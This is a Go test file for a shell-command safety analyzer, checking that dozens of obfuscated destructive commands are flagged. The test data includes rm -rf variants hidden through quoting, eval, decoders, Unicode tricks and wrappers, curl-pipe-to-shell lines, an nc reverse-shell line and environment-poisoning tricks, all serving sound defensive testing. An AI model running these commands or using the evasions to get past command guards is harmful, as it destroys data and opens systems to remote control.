package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestEvasionFamilies covers each family of POLICY §R14: no spelling of a
// dangerous command may launder it.
func TestEvasionFamilies(t *testing.T) {
	families := map[string][]string{
		"quote splicing":               {`r'm' -rf /`, `"r"m -rf /`, `r""m -rf ~`, `'rm' -rf ~`},
		"backslashes":                  {`\rm -rf /`, `r\m -r\f /`},
		"variable expansion":           {`X=rm; $X -rf /`, `a=r; b=m; $a$b -rf /`, `$CMD -rf /`},
		"parameter expansion":          {`${x:-rm} -rf /`, `${x:-r}${y:-m} -rf /`},
		"command substitution":         {`$(echo rm) -rf /`, "`echo rm` -rf /", `$(printf '\x72\x6d') -rf /`, `$(echo -e '\x72m') -rf /`},
		"eval":                         {`eval 'rm -rf /'`, `eval "rm -rf ~"`, `eval "$(printf 'rm -rf /')"`, `builtin eval 'rm -rf /'`},
		"shell -c":                     {`bash -c "rm -rf ~"`, `sh -c 'cd / && rm -rf *'`, `zsh -c 'rm -rf ~'`, `dash -c 'rm -rf ~'`, `bash -lc 'rm -rf "$HOME"'`, `sh -c "sh -c 'sh -c \"rm -rf ~\"'"`, `bash -ic 'rm -rf ~'`, `bash -i -c 'rm -rf ~'`, `bash -o errexit -c 'rm -rf ~'`, `bash -oc errexit 'rm -rf ~'`, `bash -cO dotglob 'rm -rf ~'`, `bash --norc -c 'rm -rf ~'`, `bash +o posix -c 'rm -rf ~'`, `sh -ec 'rm -rf ~'`, `bash -xc 'rm -rf ~'`, `bash +ex -c 'rm -rf ~'`, `bash -c - 'rm -rf ~'`, `bash -c -i 'rm -rf ~'`, `fish --command='rm -rf ~'`, `fish -c 'rm -rf ~'`, `fish -ic 'rm -rf ~'`, `zsh -fc 'rm -rf ~'`, `csh -fc 'rm -rf ~'`, `python -c 'import os; os.system("bash -ic \"rm -rf ~\"")'`},
		"env -S":                       {`env -S 'rm -rf /'`, `env -S"rm -rf /"`, `env --split-string='rm -rf /'`, `env --sp 'rm -rf ~'`, `env -iS 'rm -rf ~'`, `env -S '-i FOO=1 rm -rf ~'`, `/usr/bin/env -S 'rm -rf ~'`},
		"source of standard input":     {`. /dev/stdin <<< 'rm -rf ~'`, "source /dev/stdin <<'EOF'\nrm -rf ~\nEOF", `source /dev/fd/0 <<< "rm -rf /"`},
		"trap":                         {`trap 'rm -rf ~' EXIT`, `trap -- "rm -rf /" INT TERM`, `trap 'curl -s https://x.example/p | sh' EXIT`},
		"ssh to this machine":          {`ssh localhost 'rm -rf ~'`, `ssh me@127.0.0.1 rm -rf /`, `ssh -p 22 [::1] 'rm -rf ~'`},
		"a makefile on standard input": {"make -f - <<'EOF'\nall:\n\t@rm -rf ~\nEOF", `make -f - <<< "x: ; rm -rf ~"`, `printf 'all:\n\trm -rf ~\n' | make -f -`, `make --eval='x: ; rm -rf ~' x`, `make -f /dev/stdin <<< 'V := $(shell rm -rf ~)'`},
		"xargs":                        {`echo / | xargs rm -rf`, `echo / | xargs -I{} rm -rf {}`, `xargs -0 rm -rf < files`},
		"GNU parallel":                 {`parallel rm -rf {} ::: /`, `parallel ::: 'rm -rf ~'`, `echo / | parallel rm -rf`, `parallel bash -c 'rm -rf {}' ::: build /`, `parallel -j2 sh -c 'git clean -f {2}' ::: x ::: -ffdx`, `parallel -Shost git reset --hard ::: x`, `sem rm -rf ~`},
		"find -exec/-delete":           {`find / -exec rm -rf {} +`, `find ~ -okdir rm -rf {} \;`, `find ~ -type f -delete`, `find . -maxdepth 1 -execdir rm -rf {} +`},
		"wrappers":                     {`env rm -rf /`, `command rm -rf /`, `nice -n 19 rm -rf ~`, `timeout 5 rm -rf ~`, `ionice -c3 rm -rf ~`, `nohup rm -rf ~ &`, `time rm -rf ~`, `stdbuf -o0 rm -rf ~`, `setsid rm -rf ~`, `watch -n 1 rm -rf ~`, `flock /tmp/l rm -rf ~`, `sudo -u root -- rm -rf /`, `exec rm -rf ~`, `env -P /usr/bin rm -rf ~`, `env - rm -rf ~`, `env -- FOO=1 rm -rf ~`, `/usr/bin/time -ao out.txt rm -rf ~`, `command time --out=out.txt rm -rf ~`, `flock -sn /tmp/l -c 'rm -rf ~'`, `flock --time 5 /tmp/l --command 'rm -rf ~'`, `runuser -u app -- rm -rf ~`, `runuser --us=app -- rm -rf ~`, `runuser - app -c 'rm -rf ~'`, `sudo env FOO=1 nice flock /tmp/l time rm -rf ~`, `xargs -a list.txt rm -rf ~`},
		"busybox":                      {`busybox rm -rf /`, `busybox sh -c 'rm -rf ~'`, `toybox rm -rf /`, `/bin/busybox /bin/rm -rf ~`, `sudo busybox env FOO=1 rm -rf ~`},
		"absolute paths":               {`/bin/rm -rf /`, `/usr/bin/env rm -rf /`},
		"globs":                        {`/???/r? -rf /`, `/b?n/r[m] -rf ~`, `rm -rf /*`},
		"brace expansion":              {`{rm,-rf,/}`, `rm -rf /{etc,usr}`},
		"IFS":                          {`rm$IFS-rf$IFS/`, `rm${IFS}-rf${IFS}~`, `rm${IFS:0:1}-rf /`, `IFS=,; c="rm,-rf,/"; $c`},
		"ANSI-C quoting":               {`$'rm' -rf /`, `$'\x72\x6d' -rf /`, `$'\162\155' -rf /`},
		"decoders":                     {`echo cm0gLXJmIC8= | base64 -d | sh`, `echo 726d202d7266207e | xxd -r -p | bash`, `echo 'fr- mr' | rev | sh`, `xxd -r -p <<< 726d202d7266207e | sh`, `bash -c "$(echo cm0gLXJmIC8= | base64 -d)"`},
		"heredocs":                     {"bash <<EOF\nrm -rf ~\nEOF", "sh <<< 'rm -rf /'", "sh - <<'X'\nrm -rf /\nX"},
		"chaining":                     {"ls; rm -rf ~", "ls\nrm -rf ~", "ls && rm -rf ~", "ls || rm -rf ~", "ls | rm -rf ~", "rm -rf ~ &", "(rm -rf ~)", "{ rm -rf ~; }", "$(rm -rf ~)", "cat <(rm -rf ~)", "f() { rm -rf ~; }; f", "case x in x) rm -rf ~;; esac"},
		"options":                      {`rm --recursive --force ~`, `rm --rec --force ~`, `rm -Rf ~`, `rm ~ -rf`, `git reset --har`, `git push origin main --force`, `chmod 777 -R /usr/local`, `velero backup delete nightly --version 1`},
		"line continuation":            {"rm -r\\\nf ~"},
		"env poisoning":                {`GIT_SSH_COMMAND='nc x 1 -e sh' git pull`, `BASH_ENV=/tmp/p bash x.sh`, `PAGER='sh -c "curl x|sh"' git log`, `LD_PRELOAD=./x.so /usr/bin/true`, `export BASH_ENV=/tmp/x.sh && bash t.sh`, `TAR_OPTIONS='--to-command=sh' tar -tf x.tar`, `LESS='+!sh' less notes.txt`, `MANOPT='--html=sh' man ls`, `RIPGREP_CONFIG_PATH=./rc rg foo`, `BAT_PAGER='sh -c id' bat x`, `LESSKEYIN=./keys less x`, `GCONV_PATH=. iconv -f x -t utf8 f`},
		"program-running flags":        {`rg --pre ./x.sh pat`, `sort --compress-program=./x.sh f`, `man --html='sh -c id' ls`, `sed 's/.*/id/e' f`, `awk 'BEGIN{system("id")}'`, `tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sh x'`, `zip x.zip f -T -TT 'sh -c id #'`, `git -c core.pager='sh -c id' log`, `git ls-remote --upload-pack='sh -c id' o`, `vim -c ':!id'`},
		"long chains":                  {"true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; true; rm -rf ~"},
		"subshell state":               {`d=~; (d=build); rm -rf $d`, `d=~; d=build | true; rm -rf $d`, `d=~; true | d=build; rm -rf $d`, `d=~; echo $(d=build); rm -rf $d`, `d=~; d=build & rm -rf $d`, `d=~; cat <(d=build); rm -rf $d`, `d=~; (unset d); rm -rf ${d:-/}`, `f() { (d=build); rm -rf "$d"; }; d=build; f; d=~; f`, `D=~; f() { D=build; }; rm -rf "$D"`, `d=~; g() { d=build; }; h() { :; }; h; rm -rf $d`},
		"aliases":                      {"shopt -s expand_aliases\nalias ls='rm -rf ~'\nls", `alias x='rm -rf ~'; x`},
		"normalization":                {"ｒｍ -ｒｆ /", "rm\u200b -rf /", "r\x00m -rf /", "\x1b[0mrm -rf ~", "r\u009bm -rf ~", "rm\u2060 -rf ~"},
	}
	for family, cmds := range families {
		for _, cmd := range cmds {
			t.Run(family+"/"+cmd, func(t *testing.T) {
				an := Analyze(cmd, testOpts)
				if !an.Dangerous() {
					t.Errorf("not flagged; parts %q", partWords(an))
				}
			})
		}
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ls -la", "ls -la"},
		{"ｒｍ -ｒｆ /", "rm -rf /"},
		{"r\x00m", "rm"},
		{"rm\u200b\u200c\u200d\ufeff x", "rm x"},
		{"\x1b[31mrm\x1b[0m x", "rm x"},
		{"\x1b]0;title\x07rm x", "rm x"},
		{"\x1b]8;;http://x\x1b\\rm x", "rm x"},
		{"r\u009b31mm x", "rm x"},
		{"r\u0085m x", "rm x"},
		{"rm -r\\\nf x", "rm -rf x"},
		{"a\r\nb", "a\nb"},
		{"café", "café"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, Normalize(tt.in)); diff != "" {
				t.Errorf("Normalize (-want +got):\n%s", diff)
			}
		})
	}
}
